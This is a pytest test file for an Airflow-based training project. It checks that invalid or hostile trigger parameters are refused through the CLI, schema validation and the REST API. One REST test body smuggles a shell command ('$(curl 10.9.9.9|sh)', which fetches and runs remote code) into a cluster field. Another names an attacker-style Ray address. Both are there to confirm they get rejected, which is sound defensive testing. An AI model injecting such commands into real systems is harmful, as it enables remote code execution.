"""Airflow itself refuses a bad trigger: before a DAG run exists, naming the field and the choices.

The refusals go through the real CLI path (`airflow dags trigger` against a migrated SQLite
metadata DB holding the serialized DAGs); a valid trigger through the same path creates a run.
The wider matrix of values is checked with the same validation Airflow runs when it creates a DAG
run (`SerializedDAG.params.deep_merge(conf).validate()`), in a fresh subprocess.
"""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from stratoflow.config import locations
from stratoflow.config.options import LOOPS, REPLICA_CHOICES
from stratoflow.config.params import dag_params
from stratoflow.config.spec import load_spec
from stratoflow.config.strategies import STRATEGIES
from stratoflow.services import airflow_setup

DAG_ID = "retrain_mnist"


@dataclass(frozen=True)
class AirflowHome:
    home: Path
    env: dict[str, str]

    def airflow(self, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            airflow_setup.airflow_command(*args),
            env=self.env,
            capture_output=True,
            text=True,
            timeout=300,
            check=False,
        )

    def run_count(self) -> int:
        with sqlite3.connect(self.home / "airflow.db") as connection:
            (count,) = connection.execute(
                "SELECT COUNT(*) FROM dag_run WHERE dag_id = ?", (DAG_ID,)
            ).fetchone()
        return int(count)


@pytest.fixture(scope="module")
def airflow_home(session_home: Path) -> AirflowHome:
    """A migrated Airflow home whose metadata DB holds this repo's serialized DAGs."""
    home = Path(tempfile.mkdtemp(prefix="airflow-trigger-", dir=session_home))
    env = airflow_setup.airflow_env(home)
    airflow_setup.ensure_airflow_db(home, env)
    prepared = AirflowHome(home, env)
    result = prepared.airflow("dags", "reserialize")
    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    return prepared


@pytest.mark.integration  # `airflow db migrate`, `dags reserialize`, `dags trigger`
@pytest.mark.parametrize(
    ("conf", "field", "expected"),
    [
        ({"strategy": "bogus"}, "strategy", [repr(name) for name in STRATEGIES]),
        ({"replicas": 3}, "replicas", [str(n) for n in REPLICA_CHOICES]),
        ({"loop": "x"}, "loop", [repr(name) for name in LOOPS]),
        ({"epochs": 0}, "epochs", ["0 is less than the minimum of 1"]),
        # NaN passes every bound: the schema refuses it by a `not`
        # (stratoflow.config.params.NOT_FINITE).
        ({"learning_rate": float("nan")}, "learning_rate", ["nan", "NaN, Infinity or -Infinity"]),
    ],
    ids=["strategy", "replicas", "loop", "epochs", "learning_rate=NaN"],
)
def test_cli_trigger_refuses_invalid_params_and_creates_no_run(
    airflow_home: AirflowHome, conf: dict[str, Any], field: str, expected: list[str]
) -> None:
    runs_before = airflow_home.run_count()

    result = airflow_home.airflow("dags", "trigger", DAG_ID, "-c", json.dumps(conf))

    output = result.stdout + result.stderr
    assert result.returncode != 0, output[-3000:]
    assert "ParamValidationError" in output
    # The exception line, not the traceback's source line that raises it.
    message = next(
        line
        for line in reversed(output.splitlines())
        if line.startswith("airflow.sdk.exceptions.ParamValidationError: Invalid input for param")
    )
    assert f"Invalid input for param {field}:" in message
    for allowed in expected:
        assert allowed in message, message
    assert airflow_home.run_count() == runs_before


@pytest.mark.integration  # `airflow db migrate`, `dags reserialize`, `dags trigger`
def test_cli_trigger_accepts_valid_params(airflow_home: AirflowHome) -> None:
    runs_before = airflow_home.run_count()
    conf = {"strategy": "mirrored", "replicas": 2, "loop": "fit", "epochs": 1}

    result = airflow_home.airflow("dags", "trigger", DAG_ID, "-c", json.dumps(conf))

    assert result.returncode == 0, (result.stdout + result.stderr)[-3000:]
    # No scheduler runs here: the run stays queued and no task ever starts.
    assert airflow_home.run_count() == runs_before + 1


_VALIDATE_SCRIPT = textwrap.dedent(
    """
    import json, sys
    from airflow.dag_processing.dagbag import DagBag
    from airflow.serialization.serialized_objects import DagSerialization

    dag = DagBag(dag_folder=sys.argv[1]).dags[sys.argv[2]]
    # What the scheduler, the REST API and the CLI hold: the serialized DAG.
    serialized = DagSerialization.deserialize_dag(DagSerialization.serialize_dag(dag))
    verdicts = []
    for conf in json.loads(sys.argv[3]):
        try:
            verdicts.append({"ok": True, "params": serialized.params.deep_merge(conf).validate()})
        except Exception as error:
            verdicts.append({"ok": False, "error": f"{type(error).__name__}: {error}"})
    print(json.dumps(verdicts))
    """
)

VALID_CONFS: list[dict[str, Any]] = [
    {},
    {"strategy": "mirrored", "replicas": 4, "batch_size": 64},
    {"strategy": "auto", "loop": "fit", "epochs": 1},
    {"strategy": "tpu"},
    {"learning_rate": 1, "seed": 0, "promote": False},
    {"learning_rate": 0.0001, "batch_size": 1, "epochs": 1000},
    {"cluster": None},  # what the UI's form sends by default: no standing cluster
    {"cluster": ""},
]
INVALID_CONFS: list[tuple[dict[str, Any], str, str]] = [
    ({"strategy": "Mirrored"}, "strategy", "is not one of"),
    ({"strategy": None}, "strategy", "None is not of type 'string'"),
    ({"replicas": 0}, "replicas", "is not one of"),
    ({"replicas": "2"}, "replicas", "'2' is not of type 'integer'"),
    ({"loop": "keras"}, "loop", "is not one of"),
    ({"epochs": 1001}, "epochs", "is greater than the maximum of 1000"),
    ({"epochs": "5"}, "epochs", "is not of type 'integer'"),
    ({"batch_size": 0}, "batch_size", "is less than the minimum of 1"),
    ({"learning_rate": 0}, "learning_rate", "is less than or equal to the minimum of 0"),
    ({"learning_rate": 2}, "learning_rate", "is greater than the maximum of 1"),
    ({"learning_rate": float("nan")}, "learning_rate", "should not be valid under {'title': 'NaN"),
    ({"learning_rate": float("inf")}, "learning_rate", "inf is greater than the maximum of 1"),
    ({"learning_rate": float("-inf")}, "learning_rate", "-inf is less than or equal to the min"),
    ({"seed": -1}, "seed", "is less than the minimum of 0"),
    ({"promote": "yes"}, "promote", "is not of type 'boolean'"),
    ({"cluster": 5}, "cluster", "5 is not of type 'null', 'string'"),
    # Addresses are the deployment's: a run may only name a configured cluster (none here).
    ({"cluster": '{"worker": ["w:1"], "ps": ["p:1"]}'}, "cluster", "is not one of [None, '']"),
    ({"launcher": "ray", "ray_cluster": "ray://127.0.0.1:1"}, "ray_cluster", "is not one of"),
]


@pytest.fixture(scope="module")
def verdicts(session_home: Path) -> list[dict[str, Any]]:
    # Parsing and validating need no metadata DB: an unmigrated home keeps this matrix free of
    # Airflow commands (a unit test; the CLI and REST paths are integration).
    home = Path(tempfile.mkdtemp(prefix="airflow-validate-", dir=session_home))
    confs = VALID_CONFS + [conf for conf, _, _ in INVALID_CONFS]
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            _VALIDATE_SCRIPT,
            str(locations.DAGS_FOLDER),
            DAG_ID,
            json.dumps(confs),
        ],
        env=airflow_setup.airflow_env(home),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    return list(json.loads(result.stdout.strip().splitlines()[-1]))


@pytest.mark.parametrize("index", range(len(VALID_CONFS)))
def test_valid_confs_pass_airflow_validation(verdicts: list[dict[str, Any]], index: int) -> None:
    verdict = verdicts[index]
    assert verdict["ok"], verdict
    defaults = {key: kwargs["default"] for key, kwargs in dag_params(load_spec("mnist")).items()}
    assert verdict["params"] == {**defaults, **VALID_CONFS[index]}


@pytest.mark.parametrize(
    ("index", "field", "reason"),
    [(i, field, reason) for i, (_, field, reason) in enumerate(INVALID_CONFS)],
    ids=[
        next(iter(conf)) + "=" + json.dumps(conf[next(iter(conf))]) for conf, _, _ in INVALID_CONFS
    ],
)
def test_invalid_confs_fail_airflow_validation_naming_the_field(
    verdicts: list[dict[str, Any]], index: int, field: str, reason: str
) -> None:
    verdict = verdicts[len(VALID_CONFS) + index]
    assert not verdict["ok"], verdict
    assert verdict["error"].startswith(f"ParamValidationError: Invalid input for param {field}:")
    assert reason in verdict["error"]


# Airflow's REST API app in-process (`airflow.api_fastapi.app`), on this home's metadata DB, every
# request as admin (simple auth manager): the route, body parsing and Params validation a live
# api-server runs. Each body (a JSON list on stdin) is sent as text, as the official client sends
# a float NaN.
# What an Op sent in issue 25: the task then presented the deployment's Ray token to it.
HOSTILE = "ray://127.0.0.1:9"

_REST_SCRIPT = textwrap.dedent(
    """
    import json, sys
    from fastapi.testclient import TestClient
    from airflow.api_fastapi.app import create_app

    client = TestClient(create_app("core"))
    answers = []
    for body in json.load(sys.stdin):
        response = client.post(
            f"/api/v2/dags/{sys.argv[1]}/dagRuns",
            content=body,
            headers={"Content-Type": "application/json"},
        )
        answers.append({"status": response.status_code, "json": response.json()})
    print(json.dumps(answers))
    """
)


@pytest.mark.integration  # on a migrated metadata DB (airflow_home)
def test_rest_api_refuses_non_finite_numbers_and_cluster_addresses_naming_the_field(
    airflow_home: AirflowHome,
) -> None:
    bodies = [
        '{"logical_date": null, "conf": {"learning_rate": NaN}}',
        '{"logical_date": null, "conf": {"learning_rate": Infinity}}',
        '{"logical_date": null, "conf": {"learning_rate": -Infinity}}',
        # Where training runs is the deployment's: an address, a 1 MB value or a shell-laden one
        # in a cluster field is refused before any run exists (issue 25: all three were 200).
        json.dumps({"logical_date": None, "conf": {"launcher": "ray", "ray_cluster": HOSTILE}}),
        json.dumps({"logical_date": None, "conf": {"ray_cluster": "r" * 1_000_000}}),
        json.dumps({"logical_date": None, "conf": {"cluster": "$(curl 10.9.9.9|sh)"}}),
    ]
    runs_before = airflow_home.run_count()
    result = subprocess.run(
        [sys.executable, "-c", _REST_SCRIPT, DAG_ID],
        input=json.dumps(bodies),  # 1 MB: more than one command-line argument may hold
        env={**airflow_home.env, "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "True"},
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert result.returncode == 0, result.stderr[-3000:]
    answers = json.loads(result.stdout.strip().splitlines()[-1])

    assert [answer["status"] for answer in answers] == [400] * 6, [a["status"] for a in answers]
    for answer in answers[:3]:
        assert answer["json"]["detail"].startswith("Invalid input for param learning_rate: ")
    assert "NaN, Infinity or -Infinity" in answers[0]["json"]["detail"]
    for answer, field in zip(answers[3:], ["ray_cluster", "ray_cluster", "cluster"], strict=True):
        assert answer["json"]["detail"].startswith(f"Invalid input for param {field}: ")
        assert "is not one of [None, '']" in answer["json"]["detail"]
    assert airflow_home.run_count() == runs_before
